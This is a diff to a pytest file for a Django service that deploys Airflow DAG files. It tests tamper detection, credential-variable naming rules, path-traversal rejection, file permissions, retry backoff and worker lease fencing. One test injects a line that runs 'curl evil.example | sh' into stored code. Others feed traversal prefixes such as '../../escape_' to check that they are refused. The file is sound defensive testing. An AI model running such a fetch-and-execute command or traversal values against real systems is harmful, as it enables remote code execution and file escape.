@@ -1,16 +1,34 @@
-"""The deploy service against a fake Airflow client: outbox, claims, failures, supersession."""
+"""The deploy service against a fake Airflow: outbox steps, re-checks, failures, supersession.
+
+Each deploy item of issue 6 has its tests here: tampered code is never written, deployed code is
+read-only, credential variables stay under their prefix, folders and prefixes stay inside their
+rules, files are 0644, no worker waits while Airflow parses, an OSError ends the row failed after
+the attempt cap, and a stale worker cannot overwrite the newer worker's result.
+"""
 
 from __future__ import annotations
 
+import hashlib
+import os
+import stat
+from datetime import timedelta
 from pathlib import Path
 
 import pytest
+import time_machine
+from django.contrib.admin.sites import site
+from django.core.exceptions import ValidationError
+from django.db import connection
+from django.test import RequestFactory
+from django.utils import timezone
 
-from pipelines import deploy, services
-from pipelines.airflow import AirflowUnavailable
+from pipelines import alerts, deploy, services, tasks
+from pipelines.airflow import AirflowClient
+from pipelines.core.secrets import SecretNameError
 from pipelines.forms import PipelineForm
-from pipelines.models import Deployment, PipelineVersion
-from tests.conftest import pipeline_payload
+from pipelines.models import Deployment, Environment, PipelineVersion, Team
+from tests.conftest import make_environment, pipeline_payload
+from tests.fakes import FakeAirflow
 
 
 @pytest.fixture
@@ -25,14 +43,43 @@ def version(pipeline):
     return pipeline.versions.get(number=1)
 
 
-def test_deploy_writes_file_and_records_registration(version, environments, alice, fake_airflow):
-    deployment = deploy.deployment_request(
-        version=version, environment=environments["dev"], by=alice
-    )
-    deploy.deployment_run(deployment_id=deployment.id)
+@pytest.fixture
+def dev(environments):
+    return environments["dev"]
+
+
+def request(version, environment, alice) -> Deployment:
+    return deploy.deployment_request(version=version, environment=environment, by=alice)
+
+
+def make_due(deployment: Deployment) -> None:
+    """Stand in for the countdown passing (the task, or the sweep, would call again now)."""
+    Deployment.objects.filter(id=deployment.id).update(next_attempt_at=timezone.now())
+
+
+def dag_file(environment: Environment) -> Path:
+    return Path(environment.dags_folder) / "orders_daily.py"
+
+
+def tamper(deployment: Deployment, **columns: str) -> None:
+    """Change stored columns behind the model's back, as a bad actor with SQL access would."""
+    sets = ", ".join(f"{name} = %s" for name in columns)
+    with connection.cursor() as cursor:
+        cursor.execute(
+            f"UPDATE pipelines_deployment SET {sets} WHERE id = %s",
+            [*columns.values(), deployment.id],
+        )
+
+
+# --- the happy path and the behaviour kept from before -----------------------------------------
+
+
+def test_deploy_writes_file_and_records_registration(version, dev, alice, fake_airflow):
+    deployment = request(version, dev, alice)
+    assert deploy.deployment_run(deployment_id=deployment.id) is None  # nothing left to do
     deployment.refresh_from_db()
     assert deployment.state == Deployment.State.DEPLOYED
-    path = Path(environments["dev"].dags_folder) / "orders_daily.py"
+    path = dag_file(dev)
     assert path.read_text() == deployment.code
     assert deployment.registered_at >= deployment.requested_at
     assert deployment.deploy_seconds is not None
@@ -40,47 +87,55 @@ def test_deploy_writes_file_and_records_registration(version, environments, alic
     assert not [p for p in path.parent.iterdir() if p.name.startswith(".")], "temp file left"
 
 
-def test_same_version_twice_is_a_no_op(version, environments, alice, fake_airflow):
-    first = deploy.deployment_request(version=version, environment=environments["dev"], by=alice)
+def test_dag_file_is_readable_by_an_airflow_running_as_another_user(
+    version, dev, alice, fake_airflow
+):
+    deploy.deployment_run(deployment_id=request(version, dev, alice).id)
+    assert stat.S_IMODE(os.stat(dag_file(dev)).st_mode) == 0o644
+
+
+def test_same_version_twice_is_a_no_op(version, dev, alice, fake_airflow):
+    first = request(version, dev, alice)
     deploy.deployment_run(deployment_id=first.id)
-    second = deploy.deployment_request(version=version, environment=environments["dev"], by=alice)
+    second = request(version, dev, alice)
     assert second.id == first.id
     calls = len(fake_airflow.calls)
-    deploy.deployment_run(deployment_id=first.id)  # a duplicate task: claims nothing
+    assert deploy.deployment_run(deployment_id=first.id) is None  # a duplicate task: no claim
     assert len(fake_airflow.calls) == calls
     assert Deployment.objects.count() == 1
 
 
-def test_airflow_down_keeps_it_pending_and_retries(version, environments, alice, fake_airflow):
+def test_airflow_down_keeps_it_pending_with_the_reason_and_retries(
+    version, dev, alice, fake_airflow
+):
     fake_airflow.down = True
-    deployment = deploy.deployment_request(
-        version=version, environment=environments["dev"], by=alice
-    )
-    with pytest.raises(AirflowUnavailable):
-        deploy.deployment_run(deployment_id=deployment.id)
+    deployment = request(version, dev, alice)
+    again = deploy.deployment_run(deployment_id=deployment.id)
+    assert again == 2.0  # the first backoff step: the task enqueues itself with this countdown
     deployment.refresh_from_db()
     assert deployment.state == Deployment.State.PENDING
     assert "unreachable" in deployment.last_attempt_error
     assert deployment.attempts == 1
+    assert deploy.deployment_run(deployment_id=deployment.id) is None  # not due yet: no claim
     fake_airflow.down = False
+    make_due(deployment)
     deploy.deployment_run(deployment_id=deployment.id)
     deployment.refresh_from_db()
     assert deployment.state == Deployment.State.DEPLOYED
     assert deployment.attempts == 2
+    assert deployment.last_attempt_error == ""
 
 
-def test_import_error_fails_with_airflow_text(version, environments, alice, fake_airflow):
+def test_import_error_fails_with_airflow_text(version, dev, alice, fake_airflow):
     fake_airflow.reject["orders_daily.py"] = "Traceback ...\nNameError: name 'x' is not defined"
-    deployment = deploy.deployment_request(
-        version=version, environment=environments["dev"], by=alice
-    )
+    deployment = request(version, dev, alice)
     deploy.deployment_run(deployment_id=deployment.id)
     deployment.refresh_from_db()
     assert deployment.state == Deployment.State.FAILED
     assert "NameError: name 'x' is not defined" in deployment.error
     # Asking again retries the failed deployment instead of ignoring it.
     fake_airflow.reject.clear()
-    again = deploy.deployment_request(version=version, environment=environments["dev"], by=alice)
+    again = request(version, dev, alice)
     assert again.id == deployment.id
     deploy.deployment_run(deployment_id=deployment.id)
     deployment.refresh_from_db()
@@ -89,56 +144,368 @@ def test_import_error_fails_with_airflow_text(version, environments, alice, fake
 
 
 def test_newer_version_supersedes_and_older_never_overwrites(
-    pipeline, version, environments, alice, fake_airflow
+    pipeline, version, dev, alice, fake_airflow
 ):
-    dev = environments["dev"]
-    v1 = deploy.deployment_request(version=version, environment=dev, by=alice)
+    v1 = request(version, dev, alice)
     deploy.deployment_run(deployment_id=v1.id)
     spec2 = version.spec_json | {"description": "v2"}
     version2 = PipelineVersion.objects.create(
         pipeline=pipeline, number=2, spec_json=spec2, spec_sha256="x", created_by=alice
     )
-    v2 = deploy.deployment_request(version=version2, environment=dev, by=alice)
+    v2 = request(version2, dev, alice)
     deploy.deployment_run(deployment_id=v2.id)
     v1.refresh_from_db()
     v2.refresh_from_db()
     assert (v1.state, v2.state) == (Deployment.State.SUPERSEDED, Deployment.State.DEPLOYED)
-    assert "'description': 'v2'" in (Path(dev.dags_folder) / "orders_daily.py").read_text()
+    assert "'description': 'v2'" in dag_file(dev).read_text()
+    # v1 asked again later (it is not failed: a no-op) and a stray v1 task: v2's file stays.
+    assert request(version, dev, alice).state == Deployment.State.SUPERSEDED
+    deploy.deployment_run(deployment_id=v1.id)
+    assert "'description': 'v2'" in dag_file(dev).read_text()
 
 
-def test_requests_enqueue_only_on_commit(
-    version, environments, alice, django_capture_on_commit_callbacks
-):
+def test_requests_enqueue_only_on_commit(version, dev, alice, django_capture_on_commit_callbacks):
     with django_capture_on_commit_callbacks(execute=False) as callbacks:
-        deploy.deployment_request(version=version, environment=environments["dev"], by=alice)
+        request(version, dev, alice)
     assert len(callbacks) == 1
 
 
-def test_sweep_finds_rows_left_pending(version, environments, alice):
-    deployment = deploy.deployment_request(
-        version=version, environment=environments["dev"], by=alice
-    )
-    assert deploy.deployments_due() == []  # too fresh: the on-commit enqueue goes first
-    Deployment.objects.filter(id=deployment.id).update(
-        requested_at=deployment.requested_at - deploy.SWEEP_GRACE * 2
-    )
-    assert deploy.deployments_due() == [deployment.id]
-
-
 def test_broker_down_keeps_the_request_for_the_sweep(
-    version, environments, alice, monkeypatch, django_capture_on_commit_callbacks
+    version, dev, alice, monkeypatch, django_capture_on_commit_callbacks
 ):
     from kombu.exceptions import OperationalError
 
-    from pipelines import tasks
-
-    def refuse(*args):
+    def refuse(*args, **kwargs):
         raise OperationalError("Error 111 connecting to 127.0.0.1:6379. Connection refused.")
 
-    monkeypatch.setattr(tasks.deployment_run, "delay", refuse)
+    monkeypatch.setattr(tasks.deployment_run, "apply_async", refuse)
     with django_capture_on_commit_callbacks(execute=True):
-        deployment = deploy.deployment_request(
-            version=version, environment=environments["dev"], by=alice
-        )
+        deployment = request(version, dev, alice)
     deployment.refresh_from_db()
     assert deployment.state == Deployment.State.PENDING  # saved, not lost, nothing raised
+
+
+# --- re-checked before every write; read-only code --------------------------------------------
+
+
+def other_render(version, environments) -> tuple[str, str]:
+    """A real render, of the same version for another environment: valid, but not dev's."""
+    rendered = deploy.render_for(version, environments["prod"])
+    Environment.objects.filter(id=environments["prod"].id).update(dag_id_prefix="prod__")
+    return rendered.source, rendered.sha256
+
+
+@pytest.mark.parametrize(
+    ("how", "message"),
+    [
+        ("code only", "does not match its SHA-256"),
+        ("code and hash", "fails the template check"),
+        ("another render", "is not what version 1 renders for dev"),
+    ],
+)
+def test_tampered_stored_code_is_never_written(
+    version, environments, alice, fake_airflow, how, message
+):
+    dev = environments["dev"]
+    deployment = request(version, dev, alice)
+    evil = deployment.code + "\nimport os; os.system('curl evil.example | sh')\n"
+    if how == "code only":
+        tamper(deployment, code=evil)
+    elif how == "code and hash":
+        tamper(deployment, code=evil, code_sha256=hashlib.sha256(evil.encode()).hexdigest())
+    else:
+        source, sha = other_render(version, environments)
+        tamper(deployment, code=source, code_sha256=sha)
+    assert deploy.deployment_run(deployment_id=deployment.id) is None
+    deployment.refresh_from_db()
+    assert deployment.state == Deployment.State.FAILED
+    assert message in deployment.error
+    assert "Nothing was written." in deployment.error
+    assert not dag_file(dev).exists()
+    assert fake_airflow.calls == []  # refused before Airflow was asked anything
+
+
+def test_a_saved_deployments_code_cannot_be_changed(version, dev, alice):
+    deployment = request(version, dev, alice)
+    deployment.code += "\n# changed\n"
+    with pytest.raises(ValueError, match="read-only"):
+        deployment.save()
+    with pytest.raises(ValueError, match="read-only"):
+        Deployment.objects.filter(id=deployment.id).update(code="x", code_sha256="y")
+    deployment.refresh_from_db()
+    deployment.state = Deployment.State.FAILED
+    deployment.save()  # other columns still change
+
+
+def test_admin_shows_deployments_read_only(version, dev, alice, admin_user):
+    deployment = request(version, dev, alice)
+    model_admin = site._registry[Deployment]
+    http = RequestFactory().get("/")
+    http.user = admin_user
+    assert not model_admin.has_change_permission(http, deployment)
+    assert not model_admin.has_add_permission(http)
+    assert {"code", "code_sha256"} <= set(model_admin.get_readonly_fields(http, deployment))
+
+
+# --- credential variables: a fixed prefix, validated and re-checked where read ---------------
+
+
+@pytest.mark.parametrize(
+    "name", ["DATABASE_URL", "SECRET_KEY", "portal_airflow_x", "PORTAL_AIRFLOW_"]
+)
+def test_environment_refuses_credential_variables_outside_the_prefix(dev, name):
+    dev.airflow_password_env = name
+    with pytest.raises(ValidationError) as caught:
+        dev.full_clean(exclude=["dag_id_prefix"])
+    assert "PORTAL_AIRFLOW_" in caught.value.message_dict["airflow_password_env"][0]
+
+
+def test_credential_variable_saved_before_the_rule_is_never_read(version, dev, alice, monkeypatch):
+    monkeypatch.setenv("DATABASE_URL", "postgresql://portal:s3cret@db/portal")
+    Environment.objects.filter(id=dev.id).update(airflow_password_env="DATABASE_URL")
+    dev.refresh_from_db()
+    with pytest.raises(SecretNameError, match="PORTAL_AIRFLOW_"):
+        AirflowClient.for_environment(dev)  # what every Airflow call goes through
+    fake = FakeAirflow()
+    monkeypatch.setattr(AirflowClient, "for_environment", classmethod(lambda c, e: fake))
+    deployment = request(version, dev, alice)
+    deploy.deployment_run(deployment_id=deployment.id)
+    deployment.refresh_from_db()
+    assert deployment.state == Deployment.State.FAILED
+    assert "airflow_password_env" in deployment.error
+    assert "PORTAL_AIRFLOW_" in deployment.error
+    assert "s3cret" not in deployment.error
+    assert not dag_file(dev).exists()
+
+
+def test_webhook_variables_must_end_with_webhook_and_are_checked_when_sent(team):
+    team.oncall_webhook_env = "DATABASE_URL"
+    with pytest.raises(ValidationError) as caught:
+        team.full_clean()
+    assert "_WEBHOOK" in caught.value.message_dict["oncall_webhook_env"][0]
+    team.oncall_webhook_env = "PAYMENTS_ONCALL_WEBHOOK"
+    team.full_clean()
+    Team.objects.filter(id=team.id).update(quiet_webhook_env="DATABASE_URL")  # before the rule
+    with pytest.raises(alerts.DeliveryRejected, match="_WEBHOOK"):
+        alerts._post_webhook("DATABASE_URL", "hello")
+
+
+# --- folder and prefix rules ------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("dag_id_prefix", "../"),
+        ("dag_id_prefix", "a/b"),
+        ("dag_id_prefix", "dev."),
+        ("dag_id_prefix", "dév"),
+        ("dags_folder", "relative/dags"),
+        ("dags_folder", "/srv/airflow/../etc"),
+        ("dags_folder", "/srv/airflow//dags"),
+        ("dags_folder", "/srv/airflow/dags/"),
+    ],
+)
+def test_environment_refuses_unsafe_folder_or_prefix(db, field, value):
+    env = Environment(
+        slug="x",
+        name="X",
+        airflow_url="http://airflow.example.com",
+        dags_folder="/srv/airflow/dags",
+        dag_id_prefix="x__",
+        warehouse_conn_id="w",
+        warehouse_dialect="postgres",
+    )
+    env.full_clean()
+    setattr(env, field, value)
+    with pytest.raises(ValidationError) as caught:
+        env.full_clean()
+    assert field in caught.value.message_dict
+
+
+@pytest.mark.parametrize(
+    ("mine", "theirs", "same_airflow", "refused"),
+    [
+        ("", "", True, True),
+        ("dev", "dev_", True, True),
+        ("", "prod__", True, True),
+        ("dev__", "stage__", True, False),
+        ("", "", False, False),
+    ],
+)
+def test_environments_on_one_airflow_may_not_have_overlapping_prefixes(
+    db, mine, theirs, same_airflow, refused
+):
+    make_environment("stage", 1, airflow_url="http://airflow.example.com/", dag_id_prefix=theirs)
+    dev = Environment(
+        slug="dev",
+        name="Dev",
+        airflow_url="http://airflow.example.com" if same_airflow else "http://other.example.com",
+        dags_folder="/srv/airflow/dags/dev",
+        dag_id_prefix=mine,
+        warehouse_conn_id="w",
+        warehouse_dialect="postgres",
+    )
+    if not refused:
+        dev.full_clean()
+        return
+    with pytest.raises(ValidationError) as caught:
+        dev.full_clean()
+    assert (
+        "Environment “stage” uses the same Airflow" in caught.value.message_dict["dag_id_prefix"][0]
+    )
+
+
+def test_prefix_saved_before_the_rule_never_writes_outside_the_folder(
+    version, dev, alice, fake_airflow, tmp_path
+):
+    Environment.objects.filter(id=dev.id).update(dag_id_prefix="../../escape_")
+    deployment = request(version, Environment.objects.get(id=dev.id), alice)
+    deploy.deployment_run(deployment_id=deployment.id)
+    deployment.refresh_from_db()
+    assert deployment.state == Deployment.State.FAILED
+    assert "dag_id_prefix" in deployment.error
+    assert not list(tmp_path.rglob("*escape_*"))
+
+
+# --- registration does not hold a worker ------------------------------------------------------
+
+
+class SlowParse:
+    """Airflow that has not parsed the new file yet: the DAG shows its old parse time."""
+
+    def __init__(self, fake) -> None:
+        self.parsed = False
+        self.fake = fake
+        self.registered = fake.get_dag
+
+    def get_dag(self, dag_id: str) -> dict:
+        if self.parsed:
+            return self.registered(dag_id)
+        self.fake.calls.append("get_dag")
+        return {
+            "dag_id": dag_id,
+            "is_paused": True,
+            "last_parsed_time": "2020-01-01T00:00:00+00:00",
+        }
+
+
+@pytest.fixture
+def slow_parse(fake_airflow, monkeypatch) -> SlowParse:
+    slow = SlowParse(fake_airflow)
+    monkeypatch.setattr(fake_airflow, "get_dag", slow.get_dag)
+    return slow
+
+
+def test_deploy_does_not_hold_a_worker_while_airflow_parses(
+    version, dev, alice, fake_airflow, slow_parse, monkeypatch
+):
+    def no_sleep(seconds):
+        raise AssertionError(f"a deploy step slept {seconds} s")
+
+    monkeypatch.setattr("time.sleep", no_sleep)
+    deployment = request(version, dev, alice)
+    assert deploy.deployment_run(deployment_id=deployment.id) == 0.5  # check again in 0.5 s
+    deployment.refresh_from_db()
+    assert deployment.state == Deployment.State.DEPLOYING
+    assert deployment.lease_token is None  # released: no worker holds it
+    assert dag_file(dev).read_text() == deployment.code
+    calls = len(fake_airflow.calls)
+    make_due(deployment)
+    assert 0 < deploy.deployment_run(deployment_id=deployment.id) <= 3  # one more quick check
+    assert len(fake_airflow.calls) - calls == 2  # import errors, the DAG
+    slow_parse.parsed = True
+    make_due(deployment)
+    assert deploy.deployment_run(deployment_id=deployment.id) is None
+    deployment.refresh_from_db()
+    assert deployment.state == Deployment.State.DEPLOYED
+    assert deployment.attempts == 1  # checks that found Airflow still parsing are not attempts
+
+
+def test_the_task_enqueues_the_next_check_with_a_countdown(
+    version, dev, alice, fake_airflow, slow_parse, monkeypatch, django_capture_on_commit_callbacks
+):
+    sent = []
+    monkeypatch.setattr(
+        tasks.deployment_run, "apply_async", lambda args, countdown=None: sent.append(countdown)
+    )
+    deployment = request(version, dev, alice)
+    with django_capture_on_commit_callbacks(execute=True):
+        tasks.deployment_run(deployment.id)
+    assert sent == [0.5]
+
+
+def test_checks_back_off_to_a_few_seconds(version, dev, alice, fake_airflow, slow_parse):
+    deployment = request(version, dev, alice)
+    delays = [deploy.deployment_run(deployment_id=deployment.id)]
+    for seconds in (2, 8, 60):
+        with time_machine.travel(timezone.now() + timedelta(seconds=seconds), tick=False):
+            make_due(deployment)
+            delays.append(deploy.deployment_run(deployment_id=deployment.id))
+    assert delays[0] == 0.5
+    assert delays == sorted(delays)
+    assert delays[-1] == 3.0
+
+
+def test_registration_timeout_outlasts_airflows_folder_refresh_and_says_what_to_check(
+    version, dev, alice, fake_airflow, slow_parse, settings
+):
+    assert settings.DEPLOY_REGISTRATION_TIMEOUT_SECONDS > 300
+    deployment = request(version, dev, alice)
+    deploy.deployment_run(deployment_id=deployment.id)
+    with time_machine.travel(timezone.now() + timedelta(seconds=299), tick=False):
+        make_due(deployment)
+        assert deploy.deployment_run(deployment_id=deployment.id) is not None  # still waiting
+    with time_machine.travel(timezone.now() + timedelta(seconds=601), tick=False):
+        make_due(deployment)
+        assert deploy.deployment_run(deployment_id=deployment.id) is None
+    deployment.refresh_from_db()
+    assert deployment.state == Deployment.State.FAILED
+    assert "did not register orders_daily within 600 s" in deployment.error
+    assert "refresh_interval" in deployment.error
+    assert dev.dags_folder in deployment.error
+
+
+# --- attempt cap and fencing ------------------------------------------------------------------
+
+
+def test_unwritable_folder_ends_failed_after_the_attempt_cap(
+    version, dev, alice, fake_airflow, settings, tmp_path
+):
+    settings.DEPLOY_MAX_ATTEMPTS = 3
+    blocker = tmp_path / "not-a-folder"
+    blocker.write_text("")
+    Environment.objects.filter(id=dev.id).update(dags_folder=str(blocker / "dags"))
+    deployment = request(version, dev, alice)
+    waits = []
+    for _ in range(10):
+        make_due(deployment)
+        waits.append(deploy.deployment_run(deployment_id=deployment.id))
+        deployment.refresh_from_db()
+        if deployment.state == Deployment.State.FAILED:
+            break
+    assert waits == [2.0, 4.0, None]
+    assert deployment.attempts == 3
+    assert deployment.error.startswith("Gave up after 3 attempts. Last error: NotADirectoryError")
+    assert deployment.last_error.startswith("NotADirectoryError")
+
+
+def test_stale_worker_cannot_overwrite_the_newer_workers_result(version, dev, alice, fake_airflow):
+    deployment = request(version, dev, alice)
+    stale = Deployment.claim(deployment.id)  # a worker that then hangs past its lease
+    assert stale is not None
+    Deployment.objects.filter(id=deployment.id).update(
+        lease_until=timezone.now() - timedelta(seconds=1)
+    )
+    deploy.deployment_run(deployment_id=deployment.id)  # the sweep's worker takes over
+    deployment.refresh_from_db()
+    assert deployment.state == Deployment.State.DEPLOYED
+    dag_file(dev).unlink()
+    # The stale worker wakes up: its write, its failure, its release all change nothing.
+    deployment.refresh_from_db()
+    assert deploy._write(deployment, stale) is None
+    assert not dag_file(dev).exists()
+    assert not Deployment.finish(deployment.id, stale, state=Deployment.State.FAILED, error="late")
+    assert Deployment.release(deployment.id, stale, error="late") is None
+    deployment.refresh_from_db()
+    assert (deployment.state, deployment.error) == (Deployment.State.DEPLOYED, "")
